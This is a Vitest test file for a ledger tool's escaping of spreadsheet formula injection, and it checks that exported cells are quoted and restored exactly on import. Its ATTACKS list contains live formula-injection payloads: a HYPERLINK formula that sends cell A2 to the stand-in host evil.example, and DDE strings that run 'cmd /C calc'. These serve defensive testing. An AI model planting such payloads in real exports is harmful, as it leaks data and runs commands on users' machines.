import { describe, expect, it } from 'vitest';
import { escapeCell, unescapeCell } from '../../src/lib/ledgers/cell-escaping';
import { sitesLedger, type SiteRecord } from '../../src/lib/ledgers/definitions';
import { toLedgerTable } from '../../src/lib/ledgers/ledger';
import { validateLedger } from '../../src/lib/ledgers/validate-ledger';

const ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('escapeCell', () => {
	it('quotes every cell a spreadsheet would run as a formula', () => {
		for (const attack of ATTACKS) expect(escapeCell(attack), JSON.stringify(attack)).toBe(`'${attack}`);
	});

	it('leaves ordinary text alone', () => {
		for (const text of ['城门街道白畈村', 'CM060190', '王**', '138****5678', '', 'a=b', '3604**********1234']) expect(escapeCell(text)).toBe(text);
	});

	it('keeps a number of a numeric column a number, and quotes anything else there', () => {
		expect(escapeCell('-0.5', 'number')).toBe('-0.5');
		expect(escapeCell('-115.93', 'number')).toBe('-115.93');
		expect(escapeCell('-1e-7', 'number')).toBe('-1e-7');
		expect(escapeCell('-2+3', 'number')).toBe("'-2+3");
		// The same text in a text column could be a formula in a spreadsheet's eyes: quoted.
		expect(escapeCell('-0.5')).toBe("'-0.5");
	});

	it('quotes a cell that starts with a quote, so that the escape can be undone exactly', () => {
		expect(escapeCell("'=1")).toBe("''=1");
		expect(escapeCell("'hello")).toBe("''hello");
	});
});

describe('unescapeCell', () => {
	it('gives back every value escapeCell was given', () => {
		for (const value of [...ATTACKS, "'", "''", "'=1", "'hello", 'plain', '', '-0.5', "x'=1"]) {
			expect(unescapeCell(escapeCell(value)), JSON.stringify(value)).toBe(value);
			expect(unescapeCell(escapeCell(value, 'number')), JSON.stringify(value)).toBe(value);
		}
	});

	it('leaves cells no export escaped as they are', () => {
		for (const text of ['plain', "it's", "'quoted text", '-5']) expect(unescapeCell(text)).toBe(text);
	});

	it('lets a ledger import read an exported row back unchanged, negative coordinates included', () => {
		const site: SiteRecord = { code: 'S-1', name: '=HYPERLINK("http://evil.example/?leak="&A2,"点击")', kind: 'fixed', township: '@城门街道', villages: ['-白畈村'], longitude: -0.5, latitude: -29.5, crs: null, desks: 3, pooling: '10:1', opensAt: null, closesAt: null, status: null };
		const table = toLedgerTable(sitesLedger, [site]);
		const exported = table.rows.map((row) => row.map((cell, index) => escapeCell(cell, typeof (site as unknown as Record<string, unknown>)[sitesLedger.columns[index].key] === 'number' ? 'number' : 'text')));
		expect(exported[0]).toContain('-0.5');
		expect(exported[0]).toContain(`'${site.name}`);
		// The import takes the file's cells as they are: it undoes the export's quoting itself.
		const imported = validateLedger(sitesLedger, { headers: table.headers, rows: exported });
		expect(imported.issues).toEqual([]);
		expect(imported.records[0].record).toEqual(site);
	});
});
